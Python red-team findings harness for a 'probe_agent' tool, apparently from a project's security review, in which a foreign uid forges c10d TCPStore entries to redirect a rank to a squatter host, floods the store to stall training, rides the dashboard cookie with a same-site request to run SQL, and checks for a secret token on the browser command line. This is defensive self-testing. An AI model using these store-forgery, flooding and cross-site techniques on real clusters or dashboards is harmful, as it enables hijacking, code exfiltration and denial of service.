"""The serving, transport and store side of the third red-team pass (issue 38): the job's c10d
store rewritten or flooded by another uid, and the dashboard ridden from another port of
127.0.0.1. One function per finding, each returning what the attacker (uid 65534) got;
bench/security_findings.py runs them with the others, against this checkout or PROBE_SRC's.

The other uid writes the store with torch's own TCPStore client in a forked child
(tests/attackers.py ``store_write``); "another machine" is a network namespace behind a veth
pair, with a squatter in it. Every function imports the code under test lazily (sys.path
already points at it).
"""

from __future__ import annotations

import contextlib
import ipaddress
import json
import os
import re
import signal
import statistics
import subprocess
import sys
import tempfile
import threading
import time
import uuid
from collections.abc import Iterator
from pathlib import Path
from typing import Any

from findings_support import attackers
from findings_support import cli as _cli

from tests.foreign import FOREIGN_UID, run_as

HERE = Path(__file__).resolve().parents[1]
ROOT = Path(os.environ.get("PROBE_SRC") or HERE)
CODE = "'the owner code'"


@contextlib.contextmanager
def _agent(**kw: Any) -> Iterator[Any]:
    import probe_agent
    from probe_agent.config import AgentConfig

    run_dir = tempfile.mkdtemp(prefix="probe-findings-")
    agent = probe_agent.start(AgentConfig(run_dir=run_dir, watchdog=False, serve_cpu=1.0,
                                          trace_native="off", port=0, **kw))
    try:
        yield agent
    finally:
        probe_agent.stop()


def _registry(agent: Any, st: Any, world_size: int = 2) -> Any:
    """The agent's rank registry over ``st``, as ``_arm`` leaves it for that world size."""
    import torch.distributed as dist

    from probe_agent.ranks import STORE_PREFIX, RankRegistry

    reg = RankRegistry(agent._entry, on_group=lambda r, w: None,
                       on_peers=lambda p: setattr(agent, "peers", p), refresh_s=0.0)
    reg.store = dist.PrefixStore(STORE_PREFIX, st)
    reg.world_size = world_size
    return reg


def _tick(reg: Any) -> None:
    reg._next = 0.0
    reg.tick()


def _forge(st: Any, items: list[list[str]], big: list[Any] | None = None) -> None:
    run_as(FOREIGN_UID, attackers.store_write, "127.0.0.1", st.port, items, big, timeout=120)


@contextlib.contextmanager
def _other_host() -> Iterator[tuple[str, int, Any]]:
    """A squatter on another machine as the kernel sees it (a netns behind a veth pair):
    ``(ip, port, received)``."""
    tag = f"{os.getpid() % 10000}"
    ns, a, b = f"probe-f{tag}", f"pf{tag}a", f"pf{tag}b"
    net = ipaddress.ip_address("169.254.230.0") + 4 * (int(tag) % 256)
    host_ip, ns_ip, port = str(net + 1), str(net + 2), 9700
    stop = f"/tmp/probe-squat-{uuid.uuid4().hex}"

    def sh(*cmd: str) -> None:
        subprocess.run(cmd, check=True, capture_output=True)

    proc = None
    try:
        sh("ip", "netns", "add", ns)
        sh("ip", "link", "add", a, "type", "veth", "peer", "name", b)
        sh("ip", "link", "set", b, "netns", ns)
        sh("ip", "addr", "add", f"{host_ip}/30", "dev", a)
        sh("ip", "link", "set", a, "up")
        sh("ip", "netns", "exec", ns, "ip", "addr", "add", f"{ns_ip}/30", "dev", b)
        sh("ip", "netns", "exec", ns, "ip", "link", "set", b, "up")
        code = (f"import sys; sys.path.insert(0, {str(HERE)!r})\n"
                "from tests.attackers import squat\n"
                f"sys.stdout.write(squat({port}, 90, {stop!r}))\n")
        proc = subprocess.Popen(["ip", "netns", "exec", ns, sys.executable, "-c", code],
                                stdout=subprocess.PIPE, stderr=subprocess.DEVNULL, text=True)
        for _ in range(300):
            if subprocess.run(["ip", "netns", "exec", ns, "ss", "-Hltn", f"sport = :{port}"],
                              capture_output=True, text=True).stdout.strip():
                break
            time.sleep(0.1)

        def received() -> str:
            open(stop, "w").close()
            return proc.communicate(timeout=60)[0]

        yield ns_ip, port, received
    finally:
        if proc is not None and proc.poll() is None:
            proc.kill()
            proc.wait()
        with contextlib.suppress(OSError):
            os.unlink(stop)
        subprocess.run(["ip", "link", "del", a], capture_output=True)
        subprocess.run(["ip", "netns", "del", ns], capture_output=True)


def _store() -> Any:
    import torch.distributed as dist

    return dist.TCPStore("127.0.0.1", 0, world_size=1, is_master=True, wait_for_workers=False)


def store_off_machine() -> str:
    """No token (the default): another uid points rank 1's entry at a host of its own."""
    with _other_host() as (ip, port, received), _agent() as agent:
        st = _store()
        reg = _registry(agent, st)
        _tick(reg)
        entry = {"rank": 1, "url": f"http://{ip}:{port}", "host": "h", "pid": 1}
        _forge(st, [["probe_agent/rank1", json.dumps(entry)], ["probe_agent/generation", "999"]])
        _tick(reg)
        code, out, err = _cli(agent.url.removeprefix("http://"), "eval", CODE)
        got = received()
    why = re.search(r"failed: 1 \(([^)]*)\)", err)
    return (f"no token, rank 1 forged to another host: exit {code}; forged answer printed: "
            f"{'pwned' in out}; the other host got the code: {'owner code' in got}; stderr: "
            f"{why.group(1)[:70] if why else err.strip()[:70]!r}")


def store_own_entry() -> str:
    """Another uid rewrites a live rank's own entry: does it stay?"""
    with _agent() as agent:
        st = _store()
        reg = _registry(agent, st)
        _tick(reg)
        forged = json.dumps({"rank": 0, "url": "http://127.0.0.1:1", "host": "h", "pid": 1})
        _forge(st, [["probe_agent/rank0", forged]])
        _tick(reg)
        _tick(reg)
        import torch.distributed as dist

        now = bytes(dist.PrefixStore("probe_agent", st).get("rank0")).decode()
    return ("rank 0's entry rewritten, after two refreshes: "
            f"{'STILL FORGED' if now == forged else 'published again by the rank'}")


def store_flood() -> str:
    """Another uid floods the prefix: what one registry read costs a training step."""
    import torch

    with _agent() as agent:
        st = _store()
        reg = _registry(agent, st)
        _tick(reg)
        _forge(st, [["probe_agent/rank1", "x" * (8 << 20)], ["probe_agent/generation", "7"]],
               big=["probe_agent/rank1junk", 16, 8 << 20])
        _forge(st, [], big=["probe_agent/junk", 30_000, 16])
        torch.set_num_threads(1)
        m = torch.randn(160, 160)

        def step() -> float:
            t0 = time.perf_counter()
            for _ in range(20):
                m @ m
            return time.perf_counter() - t0

        quiet = statistics.median(step() for _ in range(50))
        done, took = threading.Event(), []

        def read() -> None:
            t0 = time.perf_counter()
            _tick(reg)
            took.append(time.perf_counter() - t0)
            done.set()

        threading.Thread(target=read, daemon=True).start()
        during = []
        while not done.is_set():
            during.append(step())
        import torch.distributed as dist

        kept = dist.PrefixStore("probe_agent", st).check(["rank1"])
    return (f"30,000 keys + 17 x 8 MiB under probe_agent/: one read took {took[0]:.2f} s, "
            f"longest step {max(during) * 1e3:.0f} ms vs median {quiet * 1e3:.0f} ms "
            f"(x{max(during) / quiet:.0f}); the 8 MiB rank1 {'kept' if kept else 'deleted'}")


@contextlib.contextmanager
def _ui(*extra: str, env: dict[str, str] | None = None) -> Iterator[str]:
    with _agent() as agent:
        proc = subprocess.Popen([sys.executable, "-m", "probe_cli", "-t",
                                 agent.url.removeprefix("http://"), "ui", "--port", "0", *extra],
                                stdout=subprocess.PIPE, stderr=subprocess.DEVNULL, text=True,
                                env={**os.environ, "PYTHONPATH": str(ROOT),
                                     **(env or {})}, cwd=ROOT)
        try:
            yield re.search(r"dashboard at (\S+)", proc.stdout.readline()).group(1)
        finally:
            proc.send_signal(signal.SIGINT)
            proc.wait(15)


def ui_same_site() -> str:
    """A page on another port of 127.0.0.1 (same site) makes the owner's browser send the
    cookie: what Chromium sends for an <img> or a link (Sec-Fetch-Site: same-site, no Origin)."""
    import httpx

    with _ui() as url:
        base = url.split("?", 1)[0]
        with httpx.Client(timeout=15) as browser:
            browser.get(url)  # the owner opened the dashboard: the cookie is set
            r = browser.get(base + "api/query.csv",
                            params={"sql": "SELECT 'owner rows' AS x"},
                            headers={"Sec-Fetch-Site": "same-site", "Sec-Fetch-Dest": "image"})
    return (f"same-site GET /api/query.csv with the owner's cookie: HTTP {r.status_code}; "
            f"the SQL ran: {'owner rows' in r.text}")


def ui_open() -> str:
    """`probe ui --open`: what every uid reads on the browser's command line (ps)."""
    d = Path(tempfile.mkdtemp(prefix="probe-findings-"))
    seen, browser = d / "argv", d / "browser.sh"
    browser.write_text(f'#!/bin/sh\necho "$@" > {seen}.tmp && mv {seen}.tmp {seen}\n')
    browser.chmod(0o700)
    with _ui("--open", env={"BROWSER": f"{browser} %s", "DISPLAY": ""}) as url:
        for _ in range(200):
            if seen.exists():
                break
            time.sleep(0.05)
        argv = seen.read_text().strip() if seen.exists() else ""
    secret = url.split("token=", 1)[-1]
    shown = ("the SECRET URL" if secret in argv else "a one-time link" if "once=" in argv
             else repr(argv[:60]))
    return f"browser command line: {shown}"


FINDINGS = [
    ("store off-machine", store_off_machine), ("store own entry", store_own_entry),
    ("store flood", store_flood), ("ui same-site", ui_same_site), ("ui --open", ui_open),
]
